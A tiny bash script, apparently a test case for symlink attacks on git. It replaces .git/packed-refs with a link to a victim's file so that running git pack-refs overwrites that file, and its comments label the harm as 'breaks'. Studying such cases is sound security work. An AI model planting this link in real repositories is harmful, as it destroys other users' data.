#!/bin/bash -e
# .git/packed-refs is a link to a file of the user.
# host: pack-refs
# harm: breaks
# alone
ln -sf "$VICTIM/file" "$COMMON/packed-refs"
